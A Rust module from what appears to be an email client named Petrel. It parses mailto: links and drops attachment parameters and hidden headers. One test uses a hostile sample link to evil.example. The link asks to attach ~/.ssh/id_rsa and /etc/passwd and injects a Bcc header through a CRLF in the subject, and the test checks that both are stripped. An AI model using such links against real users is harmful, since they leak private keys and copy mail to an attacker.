//! `mailto:` URIs (RFC 6068) as a start for Petrel's composer. Only the fields a person
//! sees and edits are taken: to, cc, bcc, subject, body. Everything else (`attach=`,
//! `attachment=`, `In-Reply-To`, unknown headers) is dropped: a link in a message must not
//! attach a local file or set hidden headers ("Mailto: Me Your Secrets", Müller et al.
//! 2020).

/// What a `mailto:` link asks the composer to start with.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct MailtoStart {
    pub to: Vec<String>,
    pub cc: Vec<String>,
    pub bcc: Vec<String>,
    pub subject: String,
    pub body: String,
}

/// The longest link taken (a link is typed or clicked, not a file transfer).
const MAX_URI: usize = 64 * 1024;

/// Parses a `mailto:` URI; `None` when it is not one.
pub fn parse(uri: &str) -> Option<MailtoStart> {
    let uri = uri.trim();
    if uri.len() > MAX_URI {
        return None;
    }
    let rest = uri
        .get(..7)
        .filter(|s| s.eq_ignore_ascii_case("mailto:"))
        .and_then(|_| uri.get(7..))?;
    // A fragment is not part of the mail (RFC 6068 §2 has none).
    let rest = rest.split('#').next().unwrap_or_default();
    let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
    let mut start = MailtoStart {
        to: addresses(&decode(path)),
        ..MailtoStart::default()
    };
    for pair in query.split('&').filter(|p| !p.is_empty()) {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        let value = decode(value);
        match decode(name).to_ascii_lowercase().as_str() {
            "to" => start.to.extend(addresses(&value)),
            "cc" => start.cc.extend(addresses(&value)),
            "bcc" => start.bcc.extend(addresses(&value)),
            "subject" if start.subject.is_empty() => start.subject = one_line(&value),
            // Line breaks are %0D%0A in the URI (RFC 6068 §5); the composer wants \n.
            "body" if start.body.is_empty() => start.body = value.replace("\r\n", "\n"),
            _ => {}
        }
    }
    Some(start)
}

/// Percent-decoding as UTF-8 (invalid sequences become U+FFFD); `+` stays `+` (RFC 6068
/// §5: it is not a space in mailto).
fn decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' {
            let hex = bytes
                .get(i + 1..i + 3)
                .and_then(|h| std::str::from_utf8(h).ok());
            if let Some(v) = hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn addresses(list: &str) -> Vec<String> {
    list.split(',')
        .map(one_line)
        .filter(|a| !a.is_empty())
        .collect()
}

/// Header fields are one line: a CR or LF in a link must not start another header.
fn one_line(s: &str) -> String {
    s.replace("\r\n", " ")
        .replace(['\r', '\n'], " ")
        .trim()
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc_6068_examples_and_several_addresses() {
        let m = parse("mailto:chris@example.com").unwrap();
        assert_eq!(m.to, ["chris@example.com"]);
        let m = parse("mailto:infobot@example.com?subject=current-issue").unwrap();
        assert_eq!(m.subject, "current-issue");
        let m =
            parse("mailto:list@example.org?In-Reply-To=%3C3469A91.D10AF4C@example.com%3E").unwrap();
        assert_eq!(
            m,
            MailtoStart {
                to: vec!["list@example.org".into()],
                ..Default::default()
            }
        );
        let m = parse("mailto:?to=joe@example.com&cc=bob@example.com&body=hello").unwrap();
        assert_eq!(
            (m.to, m.cc, m.body),
            (
                vec!["joe@example.com".to_string()],
                vec!["bob@example.com".to_string()],
                "hello".to_string()
            )
        );
        let m = parse("MAILTO:a@x,b@x?to=c@x&bcc=d@x").unwrap();
        assert_eq!(m.to, ["a@x", "b@x", "c@x"]);
        assert_eq!(m.bcc, ["d@x"]);
        let m =
            parse("mailto:user@example.org?subject=caf%C3%A9&body=line1%0D%0Aline2+plus").unwrap();
        assert_eq!(m.subject, "café");
        assert_eq!(m.body, "line1\nline2+plus");
        assert_eq!(parse("https://example.org"), None);
        assert_eq!(parse("mail"), None);
    }

    #[test]
    fn attachments_and_hidden_headers_are_dropped() {
        let m = parse("mailto:x@evil.example?attach=~/.ssh/id_rsa&attachment=/etc/passwd&X-Header=1&subject=Unsubscribe%0D%0ABcc:%20spy@evil.example&body=bye").unwrap();
        assert_eq!(m.to, ["x@evil.example"]);
        assert_eq!(
            m.subject, "Unsubscribe Bcc: spy@evil.example",
            "one line, no injected header"
        );
        assert!(m.bcc.is_empty());
        assert_eq!(m.body, "bye");
        // Broken escapes and odd bytes never panic.
        for s in [
            "mailto:%",
            "mailto:%G1?subject=%E2%82",
            "mailto:?&&=&to",
            "mailto:é%ü?body=%%",
        ] {
            let _ = parse(s);
        }
    }
}
